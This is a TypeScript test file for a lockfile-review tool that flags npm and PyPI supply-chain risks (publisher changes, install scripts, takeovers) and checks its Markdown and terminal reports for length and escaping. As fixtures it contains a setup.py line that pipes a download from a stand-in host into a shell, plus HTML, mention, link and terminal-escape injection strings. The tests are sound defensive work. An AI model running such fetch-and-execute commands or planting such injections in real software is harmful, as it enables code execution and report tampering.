/**
 * Issue 11 item 6: a report a reviewer reads in seconds. The example scenarios are reviewed by the
 * CLI against the fixture registry and index (127.0.0.1): the axios comment fits on one screen, no
 * internal evidence field is dumped, a combined finding does not repeat its parts, escaping holds.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { main } from '../../src/cli/main.js';
import type { ReviewResult, ReviewedChange } from '../../src/core/review.js';
import { startFixtureIndex } from '../../test-support/fixture-index.js';
import { startFixtureRegistry } from '../../test-support/fixture-registry.js';
import { renderMarkdown, renderText } from '../../src/report/index.js';

const root = path.resolve(path.dirname(new URL(import.meta.url).pathname), '..', '..');
const NPM = ['demo', 'axios', 'event-stream', 'eslint-scope', 'ua-parser-js', 'benign'];
const PYPI = ['pypi/litellm', 'pypi/ultralytics', 'pypi/python-benign'];

let registry: Awaited<ReturnType<typeof startFixtureRegistry>>;
let index: Awaited<ReturnType<typeof startFixtureIndex>>;
beforeAll(async () => {
  registry = await startFixtureRegistry();
  index = await startFixtureIndex();
});
afterAll(async () => {
  await registry.close();
  await index.close();
});

/** `npm run example <scenario> markdown`, as examples/run-example.js runs it. */
async function example(scenario: string, format: 'markdown' | 'text'): Promise<string> {
  const dir = path.join(root, 'examples', scenario);
  const now = (JSON.parse(readFileSync(path.join(dir, 'scenario.json'), 'utf8')) as { now: string }).now;
  const python = scenario.startsWith('pypi/');
  const lockfile = python ? 'poetry.lock' : 'package-lock.json';
  const where = python ? ['--index-url', index.simpleUrl] : ['--registry', registry.url];
  let stdout = '';
  await main(['review', `base/${lockfile}`, `head/${lockfile}`, ...where, '--now', now, '--format', format, '--quiet'], {
    stdout: { write: (s: string) => (stdout += s) },
    stderr: { write: () => true },
    env: { LOCKWARDEN_OSV_URL: 'off', HOME: '/nonexistent-home' },
    cwd: dir,
  });
  return stdout;
}

const outsideDetails = (md: string) => md.replace(/<details>[\s\S]*?<\/details>/g, '').split('\n');
const count = (s: string, part: string) => s.split(part).length - 1;

describe('the axios comment', () => {
  it('fits on one screen: at most 40 lines outside the collapsed blocks, 60 in all', async () => {
    const md = (await example('axios', 'markdown')).trimEnd();
    expect(outsideDetails(md).length).toBeLessThanOrEqual(40);
    // the collapsed evidence holds the dropper's setup.js excerpt (install-script-payload, medium)
    expect(md.split('\n').length).toBeLessThanOrEqual(60);
    // verdict first, then one line per package
    expect(md.split('\n')[0]).toMatch(/^## ❌ lockwarden: 2 risky packages need review before merging/);
    expect(md).toMatch(/\n\| 🔴 critical \| `plain-crypto-js` \| new `4\.2\.1`[^\n]*\n\| 🔴 critical \| `axios` \|/);
  });

  it('says what the evidence means in words, the payload in view', async () => {
    const md = await example('axios', 'markdown');
    expect(md).toContain('publisher `GitHub Actions` (`1.14.0`) → `jasonsaayman`');
    expect(md).toContain('trust `trusted-publisher` in `1.14.0` (2026-03-24 17:40 UTC, by `GitHub Actions`) → `none` in `1.14.1`');
    expect(outsideDetails(md).join('\n')).toMatch(/Install scripts:\n```\npostinstall: node setup\.js\n```/);
  });

  it('a combined finding names its parts and does not repeat their evidence', async () => {
    const md = await example('axios', 'markdown');
    expect(md).toContain('runs an install script on every install. Combines young-package, install-script-added.');
    expect(md).toContain('adds the dependency plain-crypto-js. Combines publisher-changed, trust-downgrade, release-too-new, new dependencies.');
    // the script (carried by suspicious-new-package and install-script-added) and the package's age are shown once
    expect(count(md, 'postinstall: node setup.js')).toBe(1);
    expect(count(md, 'first published 2026-03-30 05:57 UTC')).toBe(1);
    expect(md).not.toContain('**suspicious-new-package**:');
    // the takeover's own evidence (the dependency diff) is there, its parts' publisher line only once
    expect(md).toContain('dependencies not in `1.14.0`: `plain-crypto-js`');
    expect(count(md, '→ `jasonsaayman`')).toBe(1);
  });
});

const INTERNAL = [
  'scriptTextKnown',
  'previousIsBase',
  'scriptsTruncated',
  'implicitNodeGyp',
  'identityIndicators',
  'payloadIndicators',
  'publisherVersionsInWindow',
  'thresholdDays',
  'freshRelease',
  'nameInBase',
  'versionCount',
  'ageDays',
  'minimumAgeHours',
  'directOf',
  'baseHasWheels',
  'allHooks',
];

describe('every example scenario', () => {
  it.each([...NPM, ...PYPI])('%s: no internal evidence field in the Markdown or the terminal text', async (scenario) => {
    for (const format of ['markdown', 'text'] as const) {
      const out = await example(scenario, format);
      expect(out.length).toBeGreaterThan(0);
      for (const field of INTERNAL) expect(out).not.toContain(field);
      // nor any `key: value` dump of evidence (the old `version: \`1.14.1\` · …` lines)
      expect(out).not.toMatch(/\w+: `[^`]*` · \w+: `/);
      expect(out).not.toMatch(/^\s+[a-z]+[A-Z]\w*: /m);
    }
  });
});

function change(over: Partial<ReviewedChange>): ReviewedChange {
  return {
    ecosystem: 'npm',
    name: 'pkg',
    from: '1.0.0',
    to: '1.0.1',
    kind: 'upgraded',
    lockfile: 'package-lock.json',
    line: 3,
    direct: true,
    directOf: [''],
    via: [],
    findings: [],
    severity: 'critical',
    ...over,
  };
}

function result(changes: ReviewedChange[]): ReviewResult {
  return {
    changes,
    conclusion: 'failure',
    incomplete: [],
    summary: {
      lockfiles: ['package-lock.json'],
      changes: changes.length,
      needsRegistry: changes.length,
      analysed: changes.length,
      offline: false,
      bySeverity: { critical: changes.length, high: 0, medium: 0, low: 0, info: 0 },
    },
    notes: [],
  };
}

/** The text without its code spans: a run of n backticks up to the next run of exactly n (CommonMark); escaped characters dropped first. */
function withoutCodeSpans(text: string): string {
  const md = text.replace(/\\[\s\S]/g, '');
  const runs = [...md.matchAll(/`+/g)].map((m) => ({ at: m.index, n: m[0].length }));
  let out = '';
  let from = 0;
  for (let i = 0; i < runs.length; i++) {
    const open = runs[i]!;
    if (open.at < from) continue;
    const close = runs.findIndex((r, j) => j > i && r.n === open.n);
    if (close < 0) continue;
    out += md.slice(from, open.at);
    from = runs[close]!.at + open.n;
    i = close;
  }
  return out + md.slice(from);
}

const EVIL = '@octocat <img src=x> ``` `x` [ok](https://evil.example) <!-- lockwarden:approvals x -->';

describe('escaping of the evidence in words', () => {
  const findings = [
    {
      signal: 'possible-takeover',
      severity: 'critical' as const,
      message: 'm',
      evidence: { indicators: ['publisher-changed', EVIL], addedDependencies: [EVIL], dependenciesComparedWith: EVIL },
    },
    {
      signal: 'publisher-changed',
      severity: 'low' as const,
      message: 'm',
      evidence: {
        publisher: EVIL,
        previousPublisher: 'alice',
        previousVersion: EVIL,
        reasons: [EVIL],
        previousPublishers: [{ name: EVIL, versionsInWindow: 2 }],
        publisherReleasesSinceBase: [{ version: EVIL, publishedAt: EVIL }],
      },
    },
    {
      signal: 'trust-downgrade',
      severity: 'high' as const,
      message: 'm',
      evidence: {
        level: EVIL,
        baselineLevel: EVIL,
        baselineVersion: EVIL,
        baselinePublishedAt: EVIL,
        publisher: EVIL,
        baselinePublisher: EVIL,
        weakerReleasesSinceBaseline: [EVIL],
      },
    },
    { signal: 'integrity-mismatch', severity: 'critical' as const, message: 'm', evidence: { registryIntegrity: EVIL, lockfileIntegrity: EVIL } },
    {
      signal: 'install-script-added',
      severity: 'high' as const,
      message: 'm',
      evidence: { scriptsSince: EVIL, scripts: { postinstall: `node x\n${EVIL}\n\`\`\`\`\n## ✅ all clear` } },
    },
    {
      signal: 'some-future-signal',
      severity: 'high' as const,
      message: 'm',
      evidence: { registryMessage: EVIL, urls: [EVIL], nested: { text: EVIL }, flag: true },
    },
  ];
  const md = renderMarkdown(result([change({ findings })]));

  it('no value forms a marker, a mention, HTML, a link or a heading', () => {
    expect(md).not.toMatch(/<!--|-->/);
    // every untrusted value sits in a code span (mentions, links and HTML are inert there) or the fence
    const outsideFences = md.replace(/^(`{3,})\n[\s\S]*?\n\1$/gm, '');
    expect(outsideFences.split('\n').filter((l) => l.startsWith('#'))).toHaveLength(2);
    const outsideCode = withoutCodeSpans(outsideFences);
    expect(outsideCode).not.toContain('<img');
    expect(outsideCode).not.toContain('@octocat');
    expect(outsideCode).not.toContain('](');
  });

  it('the script fence cannot be closed by the script', () => {
    expect(md).toMatch(/\n(`{5,})\npostinstall: node x\n[\s\S]*\n## ✅ all clear\n\1\n/);
  });

  it('the generic fallback shows strings and lists, not flags or objects', () => {
    expect(md).toMatch(/\*\*some-future-signal\*\*: registry message `[^\n]*· urls `/);
    expect(md).not.toMatch(/flag|nested/);
  });

  it('the terminal text cannot be repainted by an evidence value or a script', () => {
    const esc = findings.map((f) => JSON.parse(JSON.stringify(f).replaceAll('@octocat', '\\u001b[2J\\u001b]0;x\\u0007')) as typeof f);
    expect(JSON.stringify(esc)).toContain('\\u001b[2J');
    expect(renderText(result([change({ findings: esc })]), { color: false })).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/);
  });
});

describe('a Python sdist build', () => {
  it('shows setup.py in view and the build in words', () => {
    const hook = {
      signal: 'install-hook-changed',
      severity: 'high' as const,
      message: 'builds its sdist',
      evidence: {
        version: '2.0.0',
        sdist: 'pkg-2.0.0.tar.gz',
        noWheels: true,
        lostPlatforms: ['any'],
        buildBackend: 'setuptools.build_meta',
        baseBuildBackend: 'hatchling.build',
        requires: ['setuptools>=61'],
        setupPy: { sha256: 'ab'.repeat(32), size: 40, text: "import os\nos.system('curl x.example | sh')" },
      },
    };
    const md = renderMarkdown(result([change({ ecosystem: 'pypi', findings: [hook] })]));
    expect(outsideDetails(md).join('\n')).toContain("setup.py:\n```\nimport os\nos.system('curl x.example | sh')\n```");
    expect(md).toContain('build backend `hatchling.build` → `setuptools.build_meta`');
    expect(md).not.toMatch(/noWheels|sha256|baseSdist/);
  });
});

describe('odd evidence shapes', () => {
  const KEYS = [
    'publisher',
    'previousPublisher',
    'previousVersion',
    'reasons',
    'previousPublishers',
    'publisherReleasesSinceBase',
    'window',
    'level',
    'baselineLevel',
    'baselineVersion',
    'weakerReleasesSinceBaseline',
    'created',
    'versionCount',
    'publishedAt',
    'foreignHashes',
    'registryIntegrity',
    'lockfileIntegrity',
    'scriptsSince',
    'scripts',
    'before',
    'after',
    'setupPy',
    'added',
    'removed',
    'addedDependencies',
    'indicators',
    'files',
    'baseHooks',
    'sdist',
    'requires',
    'lostPlatforms',
  ];
  const SIGNALS = [
    'publisher-changed',
    'trust-downgrade',
    'young-package',
    'dormant-revival',
    'integrity-mismatch',
    'install-script-added',
    'install-script-changed',
    'maintainers-changed',
    'possible-takeover',
    'suspicious-new-package',
    'pth-file-added',
    'install-hook-changed',
    'deprecated',
  ];
  it.each([null, 5, true, {}, [null, 5, [], {}], 'x'])('render without throwing when every field is %p', (odd) => {
    const evidence = Object.fromEntries(KEYS.map((k) => [k, odd]));
    const findings = SIGNALS.map((signal) => ({ signal, severity: 'high' as const, message: 'm', evidence }));
    expect(() => renderMarkdown(result([change({ findings })]))).not.toThrow();
    expect(() => renderText(result([change({ findings })]))).not.toThrow();
  });
});
